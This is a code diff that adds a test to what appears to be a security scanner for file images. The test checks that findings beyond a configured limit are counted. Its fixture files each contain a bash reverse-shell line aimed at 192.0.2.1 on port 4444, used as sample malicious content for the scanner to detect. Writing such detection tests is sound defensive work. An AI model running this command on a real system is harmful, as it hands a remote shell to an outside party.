@@ -104,6 +104,16 @@ def test_code_of_packages_is_not_the_applications():
     }
 
 
+def test_what_is_beyond_a_bound_is_counted(monkeypatch):
+    for name in ("MAX_FINDINGS", "MAX_PROFILES"):
+        monkeypatch.setattr(examination, name, 1)
+    shell = b"bash -i >& /dev/tcp/192.0.2.1/4444\n"
+    files = {f"opt/{name}.sh": b"#!/bin/sh\n" + shell for name in "abc"}
+    found = with_examined(Opened(files).image, Inventory(None, ()), reading()).examined
+    assert (found.files, len(found.profiles), found.more_profiles) == (3, 1, 2)
+    assert (len(found.findings), found.more_findings) == (1, 2)
+
+
 def test_source_that_is_not_understood_has_a_profile_and_is_stated(monkeypatch):
     monkeypatch.setattr(examination, "MAX_UNREAD", 1)
     broken = b"import socket\nsocket.create_connection(\n"
